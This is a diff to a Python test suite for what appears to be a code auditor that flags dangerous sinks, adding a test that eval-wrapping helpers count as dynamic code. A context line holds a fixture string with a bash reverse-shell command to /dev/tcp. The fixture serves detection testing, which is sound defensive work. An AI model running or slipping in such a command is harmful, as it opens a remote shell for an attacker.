@@ -436,6 +436,14 @@ def test_multi_line_sink_is_reported_where_the_data_is() -> None:
     assert lines == {2, 3}
 
 
+def test_helpers_that_exec_their_argument_are_code_sinks() -> None:
+    """A lambda or function that evals its argument makes its call sites dynamic code."""
+    got = found("run = lambda c: eval(c)\nrun('1 + 1')\n")
+    assert ("dynamic-code", "high", 2) in {(r, s, line) for r, s, _, line in got}
+    plain = found("double = lambda x: x * 2\ndouble(3)\n")
+    assert not [f for f in plain if f[3] == 2]
+
+
 def test_code_in_an_exec_string_is_audited_as_code() -> None:
     """exec of a literal is judged by what the literal does, reported on the exec line."""
     got = found("exec(\"import os; os.system('bash -i >& /dev/tcp/10.0.0.1/1 0>&1')\")\n")
